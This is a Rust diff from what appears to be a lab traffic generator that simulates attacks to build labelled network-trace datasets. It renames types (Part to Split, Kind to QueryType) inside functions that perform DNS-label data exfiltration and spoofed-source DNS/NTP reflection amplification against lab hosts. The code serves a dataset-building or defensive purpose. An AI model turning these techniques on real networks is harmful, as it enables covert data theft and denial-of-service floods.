@@ -11,14 +11,14 @@ use rand::Rng;
 use rand_xoshiro::Xoshiro256PlusPlus;
 
 use super::files::{ACCOUNT, Files};
-use super::part::{Equipment, Part};
+use super::part::{Equipment, Split};
 use super::rules::Trace;
 use super::servers::{self, AMPLE, DROP, NTP, TUNNEL};
 use super::site::{FARM, Site};
 use crate::frames::{Frame, Ipv4, Ports};
 use crate::lab::{Host, Interface, IpVersion, wait_until};
 use crate::process::Process;
-use crate::traffic::dns::{self, Kind, LONGEST_LABEL};
+use crate::traffic::dns::{self, LONGEST_LABEL, QueryType};
 use crate::traffic::peers::Exchange;
 use crate::traffic::raw::{FrameSender, Rate};
 
@@ -27,7 +27,7 @@ const LIMIT: Duration = Duration::from_secs(45);
 
 /// The hosts and settings of an attack.
 pub(super) struct Scene<'a> {
-    pub(super) part: Part,
+    pub(super) part: Split,
     pub(super) site: &'a Site,
     pub(super) files: &'a Files,
     /// A host without any traffic before.
@@ -256,7 +256,7 @@ fn dns_exfiltration(scene: &mut Scene<'_>) -> Result<Vec<Trace>> {
         let mut chunk = || (0..length).map(|_| char::from(BASE32[random.gen_range(0..32)])).collect::<String>();
         let data = (0..labels).map(|_| chunk()).collect::<Vec<_>>().join(".");
         let (id, name) = (scene.random.r#gen(), format!("{n}.{data}.{DROP}"));
-        attacker.host.enter(|| dns::ask_from_here(server, id, &name, Kind::A))??;
+        attacker.host.enter(|| dns::ask_from_here(server, id, &name, QueryType::A))??;
         thread::sleep(Duration::from_secs(1) / rate);
     }
     Ok(vec![Trace::between(attacker.v4, server.ip()), Trace::between(server.ip(), scene.sink.v4)])
@@ -301,9 +301,12 @@ fn reflection(scene: &mut Scene<'_>) -> Result<Vec<Trace>> {
     let mut frames = Vec::new();
     for n in 0..rate * seconds {
         let responder = &scene.site.responders[n as usize % scene.site.responders.len()];
-        let by_name = scene.part == Part::Train || n % 2 == 0;
-        let (port, question) =
-            if by_name { (53, dns::question(scene.random.r#gen(), AMPLE, Kind::Txt)?) } else { (NTP, clock.clone()) };
+        let by_name = scene.part == Split::Train || n % 2 == 0;
+        let (port, question) = if by_name {
+            (53, dns::question(scene.random.r#gen(), AMPLE, QueryType::Txt)?)
+        } else {
+            (NTP, clock.clone())
+        };
         let header = Ipv4 { source: server.v4, destination: responder.v4, ..Ipv4::default() };
         let ports = Ports { source: scene.random.gen_range(1024..=u16::MAX), destination: port };
         let frame = Frame::between(scene.attacker.mac, responder.mac).ipv4(&header).udp(ports);
